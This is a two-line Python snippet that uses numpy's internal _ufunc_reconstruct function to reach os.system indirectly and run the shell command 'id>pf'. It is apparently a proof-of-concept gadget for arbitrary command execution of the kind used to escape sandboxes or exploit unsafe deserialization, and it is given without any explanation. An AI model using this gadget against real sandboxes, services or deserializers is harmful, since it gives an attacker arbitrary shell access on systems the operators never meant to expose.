import numpy as np
np.core._ufunc_reconstruct("os", "system")("id>pf")
